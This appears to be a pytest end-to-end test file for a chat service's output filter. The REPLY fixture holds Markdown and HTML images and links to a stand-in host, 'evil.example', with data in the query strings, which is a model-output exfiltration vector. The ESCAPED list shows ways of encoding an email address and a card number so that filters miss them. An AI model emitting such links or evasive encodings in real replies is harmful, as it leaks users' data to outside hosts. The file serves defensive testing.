"""The output filter over HTTP: a provider that answers with images and links to another host, in
every way of writing them the issue found passing (and more), streamed in pieces cut anywhere,
through /api/v1/chat, /api/v1/chat/stream and /v1/chat/completions (streamed and not). The foreign
host never comes back to the client and never reaches the stored messages; the prose around it
does, and so does the fleet's own document id."""

from __future__ import annotations

import html
import json
import re
import unicodedata

import pytest

from e2e_support import auth, events

pytestmark = pytest.mark.e2e

FOREIGN = "evil.example"
# Phone- and number-like digit runs inside an id of ours (one holding a card-length run is not
# trusted in a reply: see test_a_card_number_dressed_as_an_id_is_still_redacted_in_replies).
DOCUMENT_ID = "doc_e4155550132a497312345678bcdefabc"
REPLY = (
    "Here is the logo: ![logo](https://evil.example/p.png?d=20261130) and the form: [click](https://evil.example/c?q=12345678). "
    "The team page is [here](https://evil.example/team). "
    '<img src="https://evil.example/i.png?d=1" alt="x"> <img src="&#47;&#47;evil.example/e.png"> '
    "![chart][ref] and <https://evil.example/?q=20261130> or https://evil.example/b?q=4242 too.\n\n"
    "[ref]: https://evil.example/chart.png?d=1\n\n"
    f"Your document {DOCUMENT_ID} is indexed. Thank you for asking."
)


def _stored(http, user, conversation_id: str) -> str:
    """The stored answer: the conversation's last message, the assistant's."""
    reply = http.get(f"/api/v1/conversations/{conversation_id}/messages", headers=auth(user))
    assert reply.status_code == 200, reply.text
    last = reply.json()["messages"][-1]
    assert last["role"] == "assistant", last
    return last["content"]


def _check(text: str) -> None:
    assert FOREIGN not in text, text
    assert "Here is the logo:" in text and "Thank you for asking." in text and DOCUMENT_ID in text, text
    assert "[image removed: logo]" in text and "click [link removed]" in text, text


@pytest.fixture
def scripted(fleet):
    def play(piece: int) -> None:
        fleet.upstream.control(script=REPLY, script_piece=piece)

    yield play
    fleet.upstream.control(script="", script_piece=3)


@pytest.mark.parametrize("piece", [1, 4, 9])
def test_foreign_images_and_links_never_reach_the_client_or_the_store(http, alice, scripted, piece):
    scripted(piece)
    through_every_door(http, alice, "Show me the logo and the form, please.", _check)


def through_every_door(http, user, message: str, check) -> None:
    """`check` what comes back of `message` through /api/v1/chat and /api/v1/chat/stream (and
    what each stored), and /v1/chat/completions streamed and not."""
    body = {"message": message, "model": "fake:fake-model", "use_rag": False}
    reply = http.post("/api/v1/chat", headers=auth(user), json=body)
    assert reply.status_code == 200, reply.text
    check(reply.json()["content"])
    check(_stored(http, user, reply.json()["conversation_id"]))

    with http.stream("POST", "/api/v1/chat/stream", headers=auth(user), json=body) as streamed:
        assert streamed.status_code == 200
        seen = list(events(streamed.iter_lines()))
    assert seen[-1][0] == "complete", seen[-1]
    check("".join(data["token"] for name, data in seen if name == "token"))
    conversation_id = next(data for name, data in seen if name == "start")["conversation_id"]
    check(_stored(http, user, conversation_id))

    request = {"model": "fake:fake-model", "messages": [{"role": "user", "content": message}]}
    reply = http.post("/v1/chat/completions", headers=auth(user), json=request)
    assert reply.status_code == 200, reply.text
    check(reply.json()["choices"][0]["message"]["content"])

    with http.stream("POST", "/v1/chat/completions", headers=auth(user), json={**request, "stream": True}) as streamed:
        assert streamed.status_code == 200
        chunks = [json.loads(line[6:]) for line in streamed.iter_lines() if line.startswith("data: ") and line != "data: [DONE]"]
    check("".join(c["choices"][0]["delta"].get("content") or "" for c in chunks if c.get("choices")))


# Personal data written so that no pattern matches the bytes, yet the reader turns it back into
# the value: character references and backslash escapes (Markdown), JSON escapes (a JSON-mode
# answer's parser), fullwidth forms, invisible characters and emphasis markers inside it.
ESCAPED = ["Write to alice&#64;example.com", "or alice&commat;example&period;com", "or alice\\@example\\.com",
           "or alice\\u0040example.com", "or **alice**@example.com", "or alice\uff20example.com",
           "or al\u200bice@exa\u200bmple.com", "card 4111&#32;1111&#32;1111&#32;1111", "card 4111\u00a01111\u00a01111\u00a01111",
           "card \\u0034111 1111 1111 1111", "or alice[](#)@example.com", "card 4111 _1111_ 1111 1111", "done"]


def _as_read(text: str) -> str:
    """What readers make of an answer: JSON escapes decoded, character references decoded,
    Markdown backslash escapes and emphasis markers dropped, compatibility forms folded,
    invisible characters gone."""
    text = re.sub(r"\\u([0-9a-fA-F]{4})", lambda m: chr(int(m.group(1), 16)), text)
    text = re.sub(r"\[([^\]]*)\]\([^)]*\)", r"\1", text)  # a link shows its text
    text = re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", html.unescape(text)).replace("*", "").replace("_", "")
    return "".join(ch for ch in unicodedata.normalize("NFKC", text) if unicodedata.category(ch) != "Cf")


def _no_personal_data(text: str) -> None:
    seen = _as_read(text)
    assert "alice@example.com" not in seen and "4111" not in seen, text
    assert text.startswith("Write to ") and text.rstrip().endswith("done"), text


@pytest.mark.parametrize("piece", [1, 5])
def test_personal_data_in_escapes_never_reaches_the_client_or_the_store(http, alice, fleet, piece):
    """An upstream that obeys: asked to write an address and a card number escaped in every way
    a reader decodes, it does. Found on main: each of these came out as written."""
    assert _as_read(" ".join(ESCAPED)).count("alice@example.com") == 8  # the oracle reads them all
    assert _as_read(" ".join(ESCAPED)).count("4111 1111 1111 1111") == 4
    assert http.patch("/api/v1/admin/tenant", headers=auth(alice), json={"injection_policy": "allow"}).status_code == 200
    message = " then ".join(f'say "{phrase}"' for phrase in ESCAPED)
    fleet.upstream.control(obey=True, script_piece=piece)
    try:
        through_every_door(http, alice, message, _no_personal_data)
    finally:
        fleet.upstream.control(obey=False, script_piece=3)
